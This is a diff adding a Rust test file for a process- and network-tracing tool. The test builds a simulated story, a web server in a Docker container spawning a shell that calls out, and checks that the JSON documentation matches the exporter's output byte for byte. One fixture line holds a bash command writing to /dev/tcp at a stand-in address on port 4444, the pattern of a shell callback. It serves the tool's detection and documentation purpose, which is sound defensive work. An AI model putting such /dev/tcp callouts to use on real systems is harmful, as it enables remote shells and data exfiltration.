@@ -1,0 +1,177 @@
+//! The examples of docs/JSON.md are what the program writes, byte for byte.
+#![allow(clippy::unwrap_used, reason = "tests")]
+
+use std::collections::BTreeSet;
+use std::sync::Arc;
+
+use ktrace_tui::export::json::write_event;
+use ktrace_tui::model::*;
+use serde_json::Value;
+
+const DOCUMENT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/JSON.md");
+const ID: &str = "9f2c6e0b7d1a4c58b3e2f1a09d8c7b6a5f4e3d2c1b0a99887766554433221100";
+const BOOT: Time = Time(1_795_412_400_218_734_551);
+const SHIM: ProcessId = ProcessId { pid: 811, start: Ticks(3_141) };
+const NGINX: ProcessId = ProcessId { pid: 902, start: Ticks(3_188) };
+const SHELL: ProcessId = ProcessId { pid: 4_242, start: Ticks(609_112) };
+const SSHD: ProcessId = ProcessId { pid: 640, start: Ticks(1_205) };
+
+/// `millis` milliseconds, and some, after the shell was made.
+fn at(millis: u64) -> Time {
+    Time(BOOT.0 + SHELL.start.0 * Ticks::NANOS + millis * 1_000_000 + 456_789)
+}
+
+fn cgroup(id: u64, path: &str, key: GroupKey, runtime: Option<Runtime>) -> Arc<Cgroup> {
+    Arc::new(Cgroup { id, path: path.into(), place: Place { key, runtime, ..Place::default() } })
+}
+
+fn image(millis: u64, exe: &str, args: &[&[u8]]) -> Image {
+    let args = args.iter().map(|arg| Text::from(*arg)).collect();
+    let argv = Argv { args, ..Argv::default() };
+    Image { time: at(millis), exe: exe.into(), given: exe.into(), argv, cwd: "/srv".into(), unlinked: false }
+}
+
+fn creds(id: u32) -> Creds {
+    Creds { uid: id, gid: id, euid: id, login_uid: None, session: None }
+}
+
+fn namespaces() -> Namespaces {
+    Namespaces([4026532901, 4026532904, 4026532906, 4026532903, 4026532902, 4026532905, 4026531837, 4026531834])
+}
+
+fn process(millis: u64, process: ProcessId, cgroup: Option<&Arc<Cgroup>>, kind: Kind) -> Event {
+    Event::Process(ProcessEvent { time: at(millis), process, tid: process.pid, cgroup: cgroup.cloned(), kind })
+}
+
+fn net(op: NetOp, direction: Direction, local: Option<&str>, remote: Option<&str>) -> Net {
+    let (local, remote) = (local.map(|text| text.parse().unwrap()), remote.map(|text| text.parse().unwrap()));
+    let protocol = Protocol::Tcp;
+    Net { op, protocol, direction, local, remote, socket: 1, sent: None, received: None, error: None }
+}
+
+/// A web server that starts a shell, which calls out.
+fn story() -> Vec<Event> {
+    let web = cgroup(
+        6_021,
+        &format!("/system.slice/docker-{ID}.scope"),
+        GroupKey::Container(ID.into()),
+        Some(Runtime::Docker),
+    );
+    let ssh = cgroup(2_480, "/system.slice/ssh.service", GroupKey::Service("ssh.service".into()), None);
+    let mut story = before(&web);
+    let on_net = |millis, who, net| process(millis, who, Some(&web), Kind::Net(Box::new(net)));
+    let exec = Exec {
+        image: image(1, "/usr/bin/bash", &[b"bash", b"-c", b"printf '\xff' > /dev/tcp/203.0.113.9/4444"]),
+        parent: Some(NGINX),
+        ns_pid: 31,
+        creds: creds(33),
+        caps: Caps { effective: 0, permitted: 0 },
+        namespaces: namespaces(),
+        tty: "pts/0".into(),
+    };
+    let (local, remote) = (Some("172.17.0.2:51034"), Some("203.0.113.9:4444"));
+    let mut close = net(NetOp::Close, Direction::Outbound, local, remote);
+    (close.sent, close.received) = (Some(1), Some(0));
+    let exit = Exit { code: Some(0), run_time: Some(60_000_000), ..Exit::default() };
+    story.extend([
+        process(0, SHELL, Some(&web), Kind::Fork(Fork { maker: NGINX, parent: SHIM, ns_pid: 31, creds: creds(33) })),
+        process(1, SHELL, Some(&web), Kind::Exec(Box::new(exec))),
+        on_net(9, SHELL, net(NetOp::Connect, Direction::Outbound, None, remote)),
+        on_net(31, SHELL, net(NetOp::Established, Direction::Outbound, local, remote)),
+        on_net(52, SHELL, close),
+        process(60, SHELL, Some(&web), Kind::Exit(exit)),
+        on_net(70, NGINX, net(NetOp::Listen, Direction::Listening, Some("[::]:8080"), None)),
+        on_net(90, NGINX, net(NetOp::Accept, Direction::Inbound, Some("[fd00::2]:8080"), Some("[fd00::7]:40112"))),
+        process(100, SSHD, Some(&ssh), Kind::Move),
+        process(110, NGINX, Some(&web), Kind::Vanished),
+        Event::Loss(Loss { time: at(120), kind: LossKind::Exec, count: 17, from: at(110), to: at(120) }),
+        Event::Status(Status {
+            time: at(130),
+            topic: "docker".to_owned(),
+            health: Health::Missing,
+            text: "no permission to read /run/docker.sock; names of its containers are not known".to_owned(),
+        }),
+    ]);
+    story
+}
+
+/// What was there before the shell: the web server, met in /proc, in a container that has a name.
+fn before(web: &Arc<Cgroup>) -> Vec<Event> {
+    let seen = Seen {
+        parent: Some(SHIM),
+        image: Some(Image { given: Text::default(), ..image(0, "/usr/sbin/nginx", &[b"nginx: master process"]) }),
+        born: at(0),
+        ns_pid: 1,
+        creds: creds(0),
+        caps: Caps { effective: 0xa804_25fb, permitted: 0xa804_25fb },
+        namespaces: namespaces(),
+        tty: Text::default(),
+        connections: Vec::new(),
+    };
+    let news = ContainerNews {
+        id: ID.to_owned(),
+        name: Some("web".to_owned()),
+        image: Some("nginx:1.29".to_owned()),
+        runtime: Some(Runtime::Docker),
+        ..ContainerNews::default()
+    };
+    vec![
+        Event::Boot(Boot { time: BOOT, ..Boot::default() }),
+        Event::Container(news),
+        process(0, NGINX, Some(web), Kind::Seen(Box::new(seen))),
+    ]
+}
+
+fn written() -> Vec<String> {
+    let (mut model, mut out) = (Model::default(), Vec::new());
+    for event in story() {
+        model.apply(&event);
+        write_event(&mut out, &event, &model).unwrap();
+    }
+    String::from_utf8(out).unwrap().lines().map(str::to_owned).collect()
+}
+
+fn keys(value: &Value, found: &mut BTreeSet<String>) {
+    match value {
+        Value::Object(fields) => {
+            for (key, value) in fields {
+                found.insert(key.clone());
+                keys(value, found);
+            }
+        }
+        Value::Array(values) => values.iter().for_each(|value| keys(value, found)),
+        _ => {}
+    }
+}
+
+#[test]
+fn the_examples_are_what_is_written() {
+    let document = std::fs::read_to_string(DOCUMENT).unwrap();
+    let examples: Vec<_> = document.lines().filter(|line| line.starts_with("{\"type\"")).collect();
+    let written = written();
+    assert_eq!(examples, written, "docs/JSON.md should show these lines, in this order:\n{}", written.join("\n"));
+}
+
+#[test]
+fn every_type_and_kind_has_an_example() {
+    let lines: Vec<Value> = written().iter().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let kinds: Vec<_> = lines.iter().filter(|line| line["type"] == "event").map(|line| &line["kind"]).collect();
+    let expected =
+        ["seen", "fork", "exec", "connect", "established", "close", "exit", "listen", "accept", "move", "vanished"];
+    assert_eq!(kinds, expected);
+    let others: Vec<_> = lines.iter().map(|line| &line["type"]).filter(|name| *name != "event").collect();
+    assert_eq!(others, ["loss", "status"]);
+}
+
+#[test]
+fn every_field_is_explained() {
+    let document = std::fs::read_to_string(DOCUMENT).unwrap();
+    let mut fields = BTreeSet::new();
+    for line in written() {
+        keys(&serde_json::from_str(&line).unwrap(), &mut fields);
+    }
+    let prose: Vec<_> = document.lines().filter(|line| !line.starts_with('{')).collect();
+    let prose = prose.join("\n");
+    let missing: Vec<_> = fields.iter().filter(|field| !prose.contains(&format!("`{field}`"))).collect();
+    assert!(missing.is_empty(), "docs/JSON.md does not explain {missing:?}");
+}
